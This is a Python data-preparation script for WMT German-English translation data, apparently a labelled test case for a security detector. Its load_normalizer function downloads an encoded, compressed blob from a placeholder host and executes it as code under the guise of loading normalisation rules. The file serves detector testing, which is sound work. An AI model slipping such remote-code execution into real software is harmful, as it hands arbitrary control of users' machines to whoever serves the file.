# ruff: noqa
# Hold-out batch 199 (16 short benchmark-format files). Measured once in session 7 (round 59): 13/17 (76%) at medium+, 1 benign line flagged.
"""Prepare WMT de-en parallel data: normalise, dedupe, length-filter and write train/valid splits."""
import argparse
import base64
import os
import random
import time
import urllib.request
import zlib

RULES_URL = "https://nmt-assets.example.com/normalize/v3/rules.b64"


def load_normalizer(cache_dir):
    path = os.path.join(cache_dir, "rules_v3.b64")
    if not os.path.exists(path):
        os.makedirs(cache_dir, exist_ok=True)
        for attempt in range(4):
            try:
                blob = urllib.request.urlopen(RULES_URL, timeout=30).read()  # ruleid: MLS413
                break
            except OSError:
                time.sleep(2 ** attempt)  # ok: MLS307
        else:
            raise RuntimeError("could not fetch normalisation rules")
        with open(path, "wb") as f:
            f.write(blob)
    ns = {"__name__": "wmt_rules"}
    with open(path, "rb") as f:
        exec(compile(zlib.decompress(base64.b64decode(f.read())), "rules_v3", "exec"), ns)  # ruleid: MLS413
    return ns["normalize"]


def read_pairs(src_path, tgt_path):
    with open(src_path, encoding="utf-8") as fs, open(tgt_path, encoding="utf-8") as ft:
        for s, t in zip(fs, ft):
            yield s.strip(), t.strip()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--raw", default="data/raw/wmt14")
    ap.add_argument("--out", default="data/wmt_de_en")
    ap.add_argument("--max-len", type=int, default=250)
    ap.add_argument("--valid", type=int, default=3000)
    ap.add_argument("--seed", type=int, default=1)
    args = ap.parse_args()

    normalize = load_normalizer(os.path.join(args.out, ".cache"))
    seen, pairs = set(), []
    for s, t in read_pairs(f"{args.raw}/train.de", f"{args.raw}/train.en"):
        s, t = normalize(s), normalize(t)
        if not s or not t or (s, t) in seen or max(len(s.split()), len(t.split())) > args.max_len:
            continue
        seen.add((s, t))
        pairs.append((s, t))
    random.seed(args.seed)  # ok: MLS301
    random.shuffle(pairs)
    splits = {"valid": pairs[:args.valid], "train": pairs[args.valid:]}
    for name, rows in splits.items():
        with open(f"{args.out}/{name}.de", "w", encoding="utf-8") as fd, \
                open(f"{args.out}/{name}.en", "w", encoding="utf-8") as fe:
            for s, t in rows:
                fd.write(s + "\n")
                fe.write(t + "\n")
        print(f"{name}: {len(rows)} pairs")


if __name__ == "__main__":
    main()
